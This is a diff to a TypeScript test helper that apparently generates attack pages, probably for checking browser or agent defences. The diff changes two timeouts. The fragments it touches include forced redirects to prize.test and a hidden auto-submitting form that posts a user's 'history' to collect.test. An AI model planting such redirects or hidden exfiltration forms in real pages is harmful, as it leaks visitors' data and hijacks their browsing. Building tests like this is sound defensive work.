@@ -20,7 +20,7 @@ export function attackParts(attack: Attack): AttackParts {
     case 'META_REFRESH':
       return { ...none, head: html`<meta http-equiv="refresh" content="2;url=http://prize.test/refresh" />` };
     case 'SCRIPT_NAVIGATION':
-      return { ...none, script: `setTimeout(()=>{location.href='http://prize.test/script'},400);` };
+      return { ...none, script: `setTimeout(()=>{location.href='http://prize.test/script'},2000);` };
     case 'WINDOW_OPEN':
       return {
         ...none,
@@ -32,7 +32,7 @@ export function attackParts(attack: Attack): AttackParts {
         body: html`<form id="drain" method="post" action="http://collect.test/form" hidden>
           <input type="hidden" name="history" value="orders of the reader" />
         </form>`,
-        script: `setTimeout(()=>document.getElementById('drain').submit(),600);`,
+        script: `setTimeout(()=>document.getElementById('drain').submit(),2000);`,
       };
     case 'WEB_SOCKET':
       return { ...none, script: `try{new WebSocket('ws://collect.test/socket')}catch{}` };
